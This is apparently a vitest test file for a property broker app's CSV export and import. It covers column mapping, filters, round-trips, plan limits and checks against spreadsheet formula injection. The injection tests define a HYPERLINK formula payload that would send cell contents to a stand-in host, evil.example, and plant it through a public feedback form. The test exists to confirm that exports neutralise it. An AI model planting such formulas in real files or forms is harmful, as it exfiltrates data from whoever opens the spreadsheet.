import { parse } from 'csv-parse/sync'
import { and, count, eq } from 'drizzle-orm'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { getDb } from '#db/client.server.ts'
import { clientFeedback, clients, imports, properties } from '#db/schema.ts'
import type { ImportSummary } from '#app/modules/formats/imports.server.ts'
import { findUser } from '#tests/support/db.ts'
import { signedInBroker, TestBrowser } from '#tests/support/app.ts'
import { createClientVia } from '#tests/support/clients.ts'
import { createPropertyVia } from '#tests/support/properties.ts'
import { sharedWorld } from '#tests/support/share-world.ts'
import { unzip } from '#tests/support/zip.ts'

/** A CSV download read back with csv-parse: the header row and the records by column name. */
async function readCsv(response: Response) {
  const bytes = Buffer.from(await response.arrayBuffer())
  // A UTF-8 byte order mark first, for Excel.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const records = parse(bytes, { bom: true, columns: true }) as Record<string, string>[]
  return records
}

describe('CSV export', () => {
  it('streams the broker’s properties with RESO column names, following the list filters', async () => {
    const { browser } = await signedInBroker()
    await createPropertyVia(browser, { title: 'Porto flat', city: 'Porto', referenceCode: 'PT-1', status: 'under_offer', price: '199000.5' })
    await createPropertyVia(browser, { title: 'Lisbon flat', city: 'Lisbon', referenceCode: 'LX-1', status: 'draft' })
    await createPropertyVia(browser, { title: 'Porto rental', city: 'Porto', purpose: 'rent', rentPeriod: 'monthly', status: 'rented', referenceCode: 'PT-2' })
    // Another broker's property in the same city never shows.
    await createPropertyVia((await signedInBroker()).browser, { title: 'Foreign Porto flat', city: 'Porto' })

    const response = await browser.get('/properties/export.csv?city=Porto')
    expect(response.status).toBe(200)
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="properties-\d{4}-\d{2}-\d{2}\.csv"$/)
    const records = await readCsv(response)
    expect(records.map((r) => r.title).sort()).toEqual(['Porto flat', 'Porto rental'])
    const flat = records.find((r) => r.ListingId === 'PT-1')!
    expect(flat).toMatchObject({
      ListPrice: '199000.5',
      currency: 'EUR',
      PropertyType: 'Residential',
      PropertySubType: 'Apartment',
      StandardStatus: 'ActiveUnderContract',
      status: 'under_offer',
      BedroomsTotal: '2',
      BathroomsTotalInteger: '1',
      LivingAreaUnits: 'Square Meters',
      UnparsedAddress: 'Rua das Flores 12',
      City: 'Porto',
      PublicRemarks: 'Bright flat with a river view.',
    })
    const rental = records.find((r) => r.ListingId === 'PT-2')!
    expect(rental).toMatchObject({ StandardStatus: 'Closed', status: 'rented', PropertyType: 'Residential Lease', rentPeriod: 'monthly' })

    const all = await readCsv(await browser.get('/properties/export.csv'))
    expect(all).toHaveLength(3)
    expect(all.find((r) => r.ListingId === 'LX-1')?.StandardStatus).toBe('Incomplete')
    expect(all.find((r) => r.ListingId === 'LX-1')?.referenceCode).toBe('LX-1')
  })

  it('never leaves ListingId empty: a property without a reference code is listed by its id, and that id never becomes a reference on import', async () => {
    const { browser } = await signedInBroker()
    const noReference = await createPropertyVia(browser, { title: 'Unreferenced flat', referenceCode: '' })
    await createPropertyVia(browser, { title: 'Referenced flat', referenceCode: 'REF-7' })
    const bytes = Buffer.from(await (await browser.get('/properties/export.csv')).arrayBuffer())
    const records = recordsOf(bytes)
    expect(records.find((r) => r.title === 'Unreferenced flat')).toMatchObject({ ListingId: noReference, referenceCode: '' })
    expect(records.find((r) => r.title === 'Referenced flat')).toMatchObject({ ListingId: 'REF-7', referenceCode: 'REF-7' })
    expect(records.every((r) => r.ListingId !== '')).toBe(true)

    // Our own file into another account: the references as typed, no id among them.
    const { browser: to, email } = await signedInBroker()
    const preview = await uploadToPreview(to, 'properties', bytes)
    expect(preview).toMatchObject({ rows: 2, toWrite: 2, errors: 0, duplicates: 0 })
    expect((await confirm(to, preview.path)).status).toBe(302)
    const user = await findUser(email)
    const written = await getDb().select({ title: properties.title, referenceCode: properties.referenceCode }).from(properties).where(eq(properties.ownerId, user.id))
    expect(Object.fromEntries(written.map((p) => [p.title, p.referenceCode]))).toEqual({ 'Unreferenced flat': null, 'Referenced flat': 'REF-7' })

    // Another program's file has only ListingId: that is the reference.
    const foreign = Buffer.from('ListingId,title,type,ListPrice,City\r\nABC-9,Foreign flat,apartment,100000,Braga\r\n')
    const foreignPreview = await uploadToPreview(to, 'properties', foreign)
    expect(foreignPreview).toMatchObject({ rows: 1, toWrite: 1, errors: 0 })
    expect((await confirm(to, foreignPreview.path)).status).toBe(302)
    const after = await getDb().select({ title: properties.title, referenceCode: properties.referenceCode }).from(properties).where(eq(properties.ownerId, user.id))
    expect(after.find((p) => p.title === 'Foreign flat')?.referenceCode).toBe('ABC-9')
  })

  it('exports clients with the list filters; a bad filter is a 400, and a visitor is sent to sign in', async () => {
    const { browser } = await signedInBroker()
    await createClientVia(browser, { fullName: 'Ana Won', email: 'ana@example.com', stage: 'won' })
    await createClientVia(browser, { fullName: 'Rui New', email: 'rui@example.com', stage: 'new' })
    const records = await readCsv(await browser.get('/clients/export.csv?stage=won'))
    expect(records).toHaveLength(1)
    // A phone number starting with + is text a spreadsheet would run as a formula: written with an apostrophe.
    expect(records[0]).toMatchObject({ FullName: 'Ana Won', Email: 'ana@example.com', PreferredPhone: "'+351 910 000 000", kind: 'buyer', stage: 'won', LeadSource: 'Referral', tags: 'first-time buyer' })

    expect((await browser.get('/clients/export.csv?stage=platinum')).status).toBe(400)
    expect((await browser.get('/properties/export.csv?minPrice=abc')).status).toBe(400)
    const anonymous = await new TestBrowser().get('/properties/export.csv')
    expect(anonymous.status).toBe(302)
  })
})

/** Uploads a file to an import form; the response (a redirect to the preview, or the refusal). */
function upload(browser: TestBrowser, kind: 'properties' | 'clients', body: string | Uint8Array, name = 'file.csv') {
  const form = new FormData()
  form.set('file', new File([typeof body === 'string' ? body : new Uint8Array(body)], name, { type: 'text/csv' }))
  return browser.postMultipart(`/${kind}/import`, form)
}

async function uploadToPreview(browser: TestBrowser, kind: 'properties' | 'clients', body: string | Uint8Array) {
  const response = await upload(browser, kind, body)
  expect(response.status, await response.clone().text()).toBe(302)
  const path = response.headers.get('Location')!
  expect(path).toMatch(/^\/imports\/[0-9a-f-]{36}$/)
  const page = await browser.get(path)
  expect(page.status).toBe(200)
  const html = await page.text()
  const count = (label: string) => Number(new RegExp(`data-count="${label}">(?:<strong>)?(\\d+)`).exec(html)?.[1])
  const [summary] = await getDb().select().from(imports).where(eq(imports.id, path.split('/')[2]!))
  return { path, html, rows: count('rows'), toWrite: count('to-write'), errors: count('errors'), duplicates: count('duplicates'), summary: summary!.summary as unknown as ImportSummary }
}

const confirm = (browser: TestBrowser, path: string) => browser.post(path, { intent: 'confirm' })

async function countOf(email: string, table: typeof properties | typeof clients) {
  const user = await findUser(email)
  const [row] = await getDb().select({ n: count() }).from(table).where(eq(table.ownerId, user.id))
  return row!.n
}

describe('CSV import', () => {
  it('gives back the same properties and clients when an export is imported by another broker', async () => {
    const { browser: from } = await signedInBroker()
    await createPropertyVia(from, { title: 'Flat, "quoted"\nand two lines', referenceCode: 'RT-1', latitude: '38.7139', longitude: '-9.1334', features: 'balcony', tags: 'sea view, renovated', furnished: 'yes', privateNotes: 'Keys at the café', yearBuilt: '1998', floor: '3', parking: '1', builtArea: '84.5' })
    await createPropertyVia(from, { title: 'Rental', referenceCode: 'RT-2', purpose: 'rent', rentPeriod: 'weekly', status: 'rented', visibility: 'public', price: '1200', currency: 'GBP', areaUnit: 'sqft' })
    await createPropertyVia(from, { title: 'Plot', type: 'plot', referenceCode: '', landArea: '5000', status: 'off_market', bedrooms: '' }, 'land')
    await createPropertyVia(from, { title: 'Shop', type: 'retail', status: 'under_offer', bedrooms: '' }, 'commercial')
    await createClientVia(from, { fullName: 'Zoë Ørsted', email: 'zoe@example.com', stage: 'viewing', kind: 'investor', notes: 'Likes; semicolons, "quotes"', wantedPurpose: 'rent', budgetMin: '1000', budgetMax: '2000', budgetCurrency: 'EUR', wantedPlaces: 'Porto, Braga', minBedrooms: '2' })
    await createClientVia(from, { fullName: 'No Mail', email: '', phone: '' })
    const sourceProperties = Buffer.from(await (await from.get('/properties/export.csv')).arrayBuffer())
    const sourceClients = Buffer.from(await (await from.get('/clients/export.csv')).arrayBuffer())

    const { browser: to, email } = await signedInBroker()
    await to.post('/pricing', { plan: 'starter' })
    const propertiesPreview = await uploadToPreview(to, 'properties', sourceProperties)
    expect(propertiesPreview).toMatchObject({ rows: 4, toWrite: 4, errors: 0, duplicates: 0 })
    expect((await confirm(to, propertiesPreview.path)).headers.get('Location')).toBe('/properties')
    const clientsPreview = await uploadToPreview(to, 'clients', sourceClients)
    expect(clientsPreview).toMatchObject({ rows: 2, toWrite: 2, errors: 0, duplicates: 0 })
    expect((await confirm(to, clientsPreview.path)).headers.get('Location')).toBe('/clients')
    expect(await countOf(email, properties)).toBe(4)

    // Everything but the modification time (the import is a modification) comes back the same,
    // and ListingId where it is the property's own id (no reference code): a new id there.
    const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/
    const comparable = (bytes: Buffer, key: string) =>
      (parse(bytes, { bom: true, columns: true }) as Record<string, string>[])
        .map(({ ModificationTimestamp: _m, ...rest }) => (rest.referenceCode === '' && UUID.test(rest.ListingId ?? '') ? { ...rest, ListingId: 'its id' } : rest))
        .sort((a, b) => (a[key] ?? '').localeCompare(b[key] ?? ''))
    const back = Buffer.from(await (await to.get('/properties/export.csv')).arrayBuffer())
    expect(comparable(back, 'title')).toEqual(comparable(sourceProperties, 'title'))
    const backClients = Buffer.from(await (await to.get('/clients/export.csv')).arrayBuffer())
    expect(comparable(backClients, 'FullName')).toEqual(comparable(sourceClients, 'FullName'))
  })

  it('previews 1,000 clients with exactly 50 bad rows and 20 duplicates, then writes exactly the 930 others', async () => {
    const { browser, email } = await signedInBroker()
    for (let i = 0; i < 10; i++) await createClientVia(browser, { fullName: `Existing ${i}`, email: `person${900 + i}@example.com` })
    // Spreadsheet output: semicolons, a byte order mark, other header names, an Excel serial date.
    const lines = ['FirstName;LastName;E-mail;Phone;Stage;Min budget;Created']
    const bad = new Map<number, { field: string; message: string }>()
    for (let i = 0; i < 1000; i++) {
      let row = [`Person`, `${i}`, `person${i}@example.com`, '+351 910 000 000', 'new', '1.500,50', '45352']
      if (i % 20 === 11) {
        const which = (i / 20) | 0
        if (which % 3 === 0) {
          row = ['', '', `person${i}@example.com`, '', 'new', '', '']
          bad.set(i + 2, { field: 'FullName', message: 'Full name is required' })
        } else if (which % 3 === 1) {
          row[4] = 'sleeping'
          bad.set(i + 2, { field: 'Stage', message: 'Unknown stage “sleeping”: use new, contacted, viewing, negotiating, won, lost' })
        } else {
          row[5] = 'lots'
          bad.set(i + 2, { field: 'Min budget', message: 'Minimum budget must be a number' })
        }
      }
      // Ten rows (980–989) repeat an earlier row's e-mail; ten (900–909) are already the broker's clients.
      if (i >= 980 && i < 990) row[2] = `PERSON${i - 980}@example.com`
      lines.push(row.join(';'))
    }
    const preview = await uploadToPreview(browser, 'clients', `\uFEFF${lines.join('\r\n')}\r\n`)
    expect(preview).toMatchObject({ rows: 1000, toWrite: 930, errors: 50, duplicates: 20 })
    expect(preview.summary.errors).toEqual([...bad].map(([row, e]) => ({ row, ...e })))
    expect(preview.summary.duplicates).toEqual([
      ...Array.from({ length: 10 }, (_, k) => ({ row: 902 + k, field: 'E-mail', value: `person${900 + k}@example.com`, firstRow: null })),
      ...Array.from({ length: 10 }, (_, k) => ({ row: 982 + k, field: 'E-mail', value: `PERSON${k}@example.com`, firstRow: 2 + k })),
    ])
    expect(preview.html).toContain('Unknown stage “sleeping”')

    expect((await confirm(browser, preview.path)).status).toBe(302)
    expect(await countOf(email, clients)).toBe(940)
    const user = await findUser(email)
    const [person] = await getDb().select().from(clients).where(and(eq(clients.ownerId, user.id), eq(clients.email, 'person1@example.com')))
    expect(person).toMatchObject({ fullName: 'Person 1', budgetMin: 1500.5, stage: 'new' })
    expect(person!.createdAt.toISOString()).toBe('2024-03-01T00:00:00.000Z')
    // Confirmed once: the import is gone.
    expect((await confirm(browser, preview.path)).status).toBe(404)
  })

  it('previews 1,000 properties with 50 bad rows and 20 duplicates, and refuses them whole beyond the plan', async () => {
    const { browser, email } = await signedInBroker()
    await browser.post('/pricing', { plan: 'professional' })
    for (let i = 0; i < 10; i++) await createPropertyVia(browser, { referenceCode: `REF-${900 + i}` })
    const lines = ['ListingId,Title,PropertyType,PropertySubType,ListPrice,StandardStatus,City,Photo URL']
    const bad = new Map<number, { field: string; message: string }>()
    for (let i = 0; i < 1000; i++) {
      const row = [`REF-${i}`, `Listing ${i}`, 'Residential', 'Apartment', '250000', 'Active', 'Porto', 'https://example.com/p.jpg']
      if (i % 20 === 11) {
        const which = (i / 20) | 0
        if (which % 3 === 0) {
          row[1] = ''
          bad.set(i + 2, { field: 'Title', message: 'Title is required' })
        } else if (which % 3 === 1) {
          row[5] = 'Sleeping'
          bad.set(i + 2, { field: 'StandardStatus', message: 'Unknown status “Sleeping”' })
        } else {
          row[4] = '-5'
          bad.set(i + 2, { field: 'ListPrice', message: 'Price cannot be negative' })
        }
      }
      if (i >= 980 && i < 990) row[0] = `ref-${i - 980}`
      lines.push(row.join(','))
    }
    const preview = await uploadToPreview(browser, 'properties', lines.join('\n'))
    expect(preview).toMatchObject({ rows: 1000, toWrite: 930, errors: 50, duplicates: 20 })
    expect(preview.summary.errors).toEqual([...bad].map(([row, e]) => ({ row, ...e })))
    expect(preview.summary.duplicates.filter((d) => d.firstRow === null).map((d) => d.value)).toEqual(Array.from({ length: 10 }, (_, k) => `REF-${900 + k}`))
    expect(preview.html).toContain('Photos by address are not imported')
    expect(preview.html).toContain('Your plan has room for 240 more properties.')
    expect(preview.html).not.toContain('value="confirm"')

    const refused = await confirm(browser, preview.path)
    expect(refused.status).toBe(403)
    expect(await refused.text()).toContain('This import has 930 properties; your plan has room for 240 more. Nothing was imported.')
    expect(await countOf(email, properties)).toBe(10)
    expect((await browser.get(preview.path)).status).toBe(200)
  })

  it('writes an import that fits the free trial’s 5 slots and refuses one that does not, changing nothing', async () => {
    const { browser, email } = await signedInBroker()
    await createPropertyVia(browser)
    await createPropertyVia(browser)
    const csv = (n: number) => ['title,type,purpose', ...Array.from({ length: n }, (_, i) => `Flat ${i},apartment,sale`)].join('\n')
    const tooMany = await uploadToPreview(browser, 'properties', csv(4))
    expect(tooMany.html).toContain('Your plan has room for 3 more properties.')
    expect((await confirm(browser, tooMany.path)).status).toBe(403)
    expect(await countOf(email, properties)).toBe(2)
    const fits = await uploadToPreview(browser, 'properties', csv(3))
    expect((await confirm(browser, fits.path)).status).toBe(302)
    expect(await countOf(email, properties)).toBe(5)
    // Cancelling forgets the other one.
    expect((await browser.post(tooMany.path, { intent: 'cancel' })).headers.get('Location')).toBe('/properties')
    expect((await browser.get(tooMany.path)).status).toBe(404)
  })

  it('answers 404 for another broker’s import and refuses files that are not CSV, too large or too long', async () => {
    const { browser } = await signedInBroker()
    const preview = await uploadToPreview(browser, 'clients', 'FullName\nAna\n')
    const other = (await signedInBroker()).browser
    expect((await other.get(preview.path)).status).toBe(404)
    expect((await other.post(preview.path, { intent: 'confirm' })).status).toBe(404)
    expect((await other.get('/imports/not-an-id')).status).toBe(404)
    expect((await browser.get(preview.path)).status).toBe(200)

    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#fff' } }).png().toBuffer()
    const notCsv = await upload(browser, 'properties', png, 'listings.csv')
    expect(notCsv.status).toBe(415)
    expect(await notCsv.text()).toContain('This file is not a CSV file.')
    const latin1 = await upload(browser, 'clients', new Uint8Array([0x4e, 0x61, 0x6d, 0x65, 0x0a, 0x4a, 0x6f, 0xe3, 0x6f, 0x0a]))
    expect(latin1.status).toBe(415)
    const huge = await upload(browser, 'clients', `FullName\n${'x'.repeat(5 * 1024 * 1024)}\n`)
    expect(huge.status).toBe(413)
    expect(await huge.text()).toContain('The file must be 5 MB or smaller.')
    const long = await upload(browser, 'clients', `FullName\n${'A\n'.repeat(10_001)}`)
    expect(long.status).toBe(413)
    expect(await long.text()).toContain('import at most 10,000 at a time')
    const empty = await upload(browser, 'clients', 'FullName\n')
    expect(empty.status).toBe(400)
  })
})

// Issue 23: a cell a spreadsheet would run as a formula. A number (a negative longitude) is no
// formula: a spreadsheet reads it as the number it is.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

// Read as a spreadsheet reads: a CR, an LF or a CRLF outside quotes ends the row. (csv-parse
// would otherwise take the first line end it sees as the only one, and read a bare LF in an
// unquoted field as text, which no spreadsheet does.)
const SPREADSHEET_READ = { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }

/** Every cell of a CSV file (header included) that a spreadsheet would run, as "file row:column cell". */
function formulaCells(file: string, bytes: Buffer) {
  // csv-parse throws on a record with a different number of fields: a broken file fails here.
  const rows = parse(bytes, SPREADSHEET_READ) as string[][]
  expect(rows.length, file).toBeGreaterThan(1)
  return rows.flatMap((cells, row) =>
    cells.flatMap((cell, column) => (FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? [`${file} ${row + 1}:${rows[0]![column]} ${JSON.stringify(cell)}`] : [])),
  )
}

const recordsOf = (bytes: Buffer) => parse(bytes, { ...SPREADSHEET_READ, columns: true }) as Record<string, string>[]

describe('CSV formula injection (issue 23)', () => {
  it('writes no cell a spreadsheet would run as a formula, in either list export or any CSV of "Export my data"; numbers stay numbers', async () => {
    const { owner, propertyId, clientId, listingPath } = await sharedWorld()
    // An anonymous client plants a formula through the share page's feedback form.
    const planted = await new TestBrowser().post(listingPath, { propertyId, reaction: '', comment: HYPERLINK, name: '@Ana' })
    expect(planted.status).toBe(303)
    const [feedback] = await getDb().select().from(clientFeedback).where(eq(clientFeedback.clientId, clientId))
    expect(feedback).toMatchObject({ comment: HYPERLINK, authorName: '@Ana' })

    // The property form trims its text fields (zod's .trim(), as String.prototype.trim: spaces,
    // tabs, CR and LF), so a title typed as "\t=1+1" is stored as "=1+1".
    const typedId = await createPropertyVia(owner.browser, { title: '\t=1+1', city: '-Lisbon', referenceCode: '@REF-1', latitude: '38.7139', longitude: '-9.1334', floor: '-1', description: '+1 lift\nno commas here', privateNotes: "'=already quoted" })
    const [typed] = await getDb().select().from(properties).where(eq(properties.id, typedId))
    expect(typed).toMatchObject({ title: '=1+1', longitude: -9.1334, floor: -1 })
    // A value that does begin with a tab or a CR (the forms cannot store one: this one is written
    // in the database directly) is protected as it is, not trimmed first.
    const storedId = await createPropertyVia(owner.browser, { title: 'Stored', referenceCode: 'REF-2' })
    await getDb().update(properties).set({ title: '\t=1+1', city: '\r=2+2' }).where(eq(properties.id, storedId))
    await createClientVia(owner.browser, { fullName: '@SUM(1)', email: 'sum@example.com', notes: '-2+3', phone: '+351 910 000 000', source: '=Referral' })
    expect((await owner.browser.post('/comments', { intent: 'add', subject: 'property', id: propertyId, body: '-call the owner' })).status).toBe(302)

    const propertiesCsv = Buffer.from(await (await owner.browser.get('/properties/export.csv')).arrayBuffer())
    const clientsCsv = Buffer.from(await (await owner.browser.get('/clients/export.csv')).arrayBuffer())
    const exported = await owner.browser.post('/profile/export', { intent: 'export-data' })
    expect(exported.headers.get('Content-Type')).toBe('application/zip')
    const zip = await unzip(Buffer.from(await exported.arrayBuffer()))
    const zipCsvs = [...zip].filter(([name]) => name.startsWith('csv/'))
    expect(zipCsvs.map(([name]) => name)).toEqual(expect.arrayContaining(['csv/properties.csv', 'csv/clients.csv', 'csv/client_feedback.csv', 'csv/comments.csv', 'csv/activities.csv']))

    const offenders = [
      ...formulaCells('properties export', propertiesCsv),
      ...formulaCells('clients export', clientsCsv),
      ...zipCsvs.flatMap(([name, bytes]) => formulaCells(name, bytes)),
    ]
    expect(offenders).toEqual([])

    // Each planted text, with its apostrophe; numbers as numbers.
    const listed = recordsOf(propertiesCsv)
    expect(listed.find((r) => r.ListingId === "'@REF-1")).toMatchObject({
      title: "'=1+1", City: "'-Lisbon", Latitude: '38.7139', Longitude: '-9.1334', floor: '-1', PublicRemarks: "'+1 lift\nno commas here", PrivateRemarks: "''=already quoted",
    })
    expect(listed.find((r) => r.ListingId === 'REF-2')).toMatchObject({ title: "'\t=1+1", City: "'\r=2+2" })
    expect(recordsOf(clientsCsv).find((r) => r.Email === 'sum@example.com')).toMatchObject({ FullName: "'@SUM(1)", notes: "'-2+3", PreferredPhone: "'+351 910 000 000", LeadSource: "'=Referral" })

    const table = (name: string) => recordsOf(zip.get(`csv/${name}.csv`)!)
    expect(table('client_feedback')).toEqual([expect.objectContaining({ comment: `'${HYPERLINK}`, authorName: "'@Ana" })])
    expect(table('properties').find((r) => r.id === typedId)).toMatchObject({ title: "'=1+1", latitude: '38.7139', longitude: '-9.1334', floor: '-1' })
    expect(table('properties').find((r) => r.id === storedId)).toMatchObject({ title: "'\t=1+1", city: "'\r=2+2" })
    expect(table('clients').find((r) => r.email === 'sum@example.com')).toMatchObject({ fullName: "'@SUM(1)", notes: "'-2+3" })
    expect(table('comments').map((r) => r.body)).toEqual(["'-call the owner"])
    // data.json keeps every value exactly.
    const data = JSON.parse(zip.get('data.json')!.toString('utf8')) as { tables: Record<string, Record<string, unknown>[]> }
    expect(data.tables.client_feedback?.[0]).toMatchObject({ comment: HYPERLINK, authorName: '@Ana' })
    expect(data.tables.properties?.find((r) => r.id === storedId)).toMatchObject({ title: '\t=1+1', city: '\r=2+2' })
  })

  it('gives back the original text when an export is imported: the preview and the written rows', async () => {
    const { browser: from } = await signedInBroker()
    const text = { title: '=1+1', city: '@Porto', referenceCode: '-REF-1', description: '+ sea view', privateNotes: "'=kept with its apostrophe", area: "'hello" }
    await createPropertyVia(from, { ...text, latitude: '41.1496', longitude: '-8.611', floor: '-2', tags: '-new, =x' })
    const client = { fullName: '@SUM(1)', notes: '-2+3', phone: '+351 910 000 000', source: '=Referral', wantedPlaces: '+Porto' }
    await createClientVia(from, { ...client, email: 'sum@example.com' })
    const sourceProperties = Buffer.from(await (await from.get('/properties/export.csv')).arrayBuffer())
    const sourceClients = Buffer.from(await (await from.get('/clients/export.csv')).arrayBuffer())
    // The files do carry the apostrophes the import has to remove.
    expect(recordsOf(sourceProperties)[0]).toMatchObject({ title: "'=1+1", ListingId: "'-REF-1", PrivateRemarks: "''=kept with its apostrophe", area: "'hello", tags: "'-new, =x" })
    expect(recordsOf(sourceClients)[0]).toMatchObject({ FullName: "'@SUM(1)", wantedPlaces: "'+Porto" })

    const { browser: to, email } = await signedInBroker()
    const propertiesPreview = await uploadToPreview(to, 'properties', sourceProperties)
    expect(propertiesPreview).toMatchObject({ rows: 1, toWrite: 1, errors: 0, duplicates: 0 })
    const [checked] = await getDb().select().from(imports).where(eq(imports.id, propertiesPreview.path.split('/')[2]!))
    expect(checked!.rows).toEqual([expect.objectContaining({ ...text, longitude: -8.611, floor: -2, tags: ['-new', '=x'] })])
    expect((await confirm(to, propertiesPreview.path)).status).toBe(302)
    const clientsPreview = await uploadToPreview(to, 'clients', sourceClients)
    expect(clientsPreview).toMatchObject({ rows: 1, toWrite: 1, errors: 0 })
    expect((await confirm(to, clientsPreview.path)).status).toBe(302)

    const user = await findUser(email)
    const [property] = await getDb().select().from(properties).where(eq(properties.ownerId, user.id))
    expect(property).toMatchObject({ ...text, latitude: 41.1496, longitude: -8.611, floor: -2, tags: ['-new', '=x'] })
    const [written] = await getDb().select().from(clients).where(eq(clients.ownerId, user.id))
    expect(written).toMatchObject({ fullName: '@SUM(1)', notes: '-2+3', phone: '+351 910 000 000', source: '=Referral', wantedPlaces: ['+Porto'] })

    // The preview names a duplicate by its original text too: the same file again.
    const again = await uploadToPreview(to, 'properties', sourceProperties)
    expect(again.summary.duplicates).toEqual([{ row: 2, field: 'referenceCode', value: '-REF-1', firstRow: null }])

    // And the new broker's export is the same file, but for the modification time.
    const comparable = (bytes: Buffer) => recordsOf(bytes).map(({ ModificationTimestamp: _m, ...rest }) => rest)
    expect(comparable(Buffer.from(await (await to.get('/properties/export.csv')).arrayBuffer()))).toEqual(comparable(sourceProperties))
    expect(comparable(Buffer.from(await (await to.get('/clients/export.csv')).arrayBuffer()))).toEqual(comparable(sourceClients))
  })
})
